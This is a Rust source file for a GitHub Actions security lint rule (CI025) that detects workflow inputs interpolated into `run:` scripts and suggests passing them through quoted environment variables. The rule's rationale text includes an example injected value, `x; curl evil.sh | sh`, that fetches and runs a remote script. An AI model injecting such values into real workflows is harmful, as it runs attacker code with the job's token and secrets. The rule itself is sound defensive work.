//! CI025 `input-interpolated-into-script`: a workflow or action input (`${{ inputs.x }}`,
//! `${{ github.event.inputs.x }}`) is interpolated into a `run:` script.

use crate::finding::{Confidence, Diagnostic, Severity};
use crate::model::ci::CiFile;
use crate::model::ci::github::{GhJob, Step};
use crate::rules::{Checklist, CiRule, Family, RuleMeta};

pub struct InputInterpolatedIntoScript;

pub static META: RuleMeta = RuleMeta {
    id: "CI025",
    name: "input-interpolated-into-script",
    family: Family::Ci,
    title: "Workflow or action input interpolated into a script",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    checklist: Checklist::NoSecretsInCode,
    rationale: "`${{ inputs.x }}` is pasted into the script text before the shell runs it. \
Whoever can dispatch the workflow, call the reusable workflow or use the action chooses that \
text: a value such as `x; curl evil.sh | sh` runs as code with the job's token and secrets.",
    remediation: "Pass inputs through the environment and quote them: `env: {VERSION: ${{ \
inputs.version }}}` + `run: ./release.sh \"$VERSION\"`.",
    equivalents: &["zizmor:template-injection"],
    references: &[
        "https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#good-practices-for-mitigating-script-injection-attacks",
    ],
};

/// Input kinds that cannot carry text (`type: boolean`/`number` inputs are still strings in
/// `github.event.inputs`, so only the typed `inputs` context is exempt… when known).
fn reads_input(inner: &str) -> Option<&str> {
    let lower = inner.trim();
    for prefix in ["github.event.inputs.", "inputs."] {
        if let Some(i) = lower.find(prefix) {
            let before_ok = i == 0
                || lower
                    .get(..i)
                    .and_then(|b| b.chars().last())
                    .is_some_and(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '.'));
            if before_ok {
                return lower.get(i..);
            }
        }
    }
    None
}

impl CiRule for InputInterpolatedIntoScript {
    fn meta(&self) -> &'static RuleMeta {
        &META
    }

    fn check_step(
        &self,
        _ci: &CiFile<'_>,
        job: &GhJob<'_>,
        step: &Step<'_>,
        out: &mut Vec<Diagnostic>,
    ) {
        let Some(r) = &step.run else { return };
        for e in &r.exprs {
            if let Some(input) = reads_input(&e.inner) {
                let name: String = input
                    .chars()
                    .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.'))
                    .collect();
                out.push(
                    Diagnostic::new(
                        &META,
                        e.span,
                        format!(
                            "job \"{}\" {} interpolates `{name}` into a script",
                            job.id,
                            step.label()
                        ),
                    )
                    .anchor(format!("{}:{name}", job.id)),
                );
            }
        }
    }
}
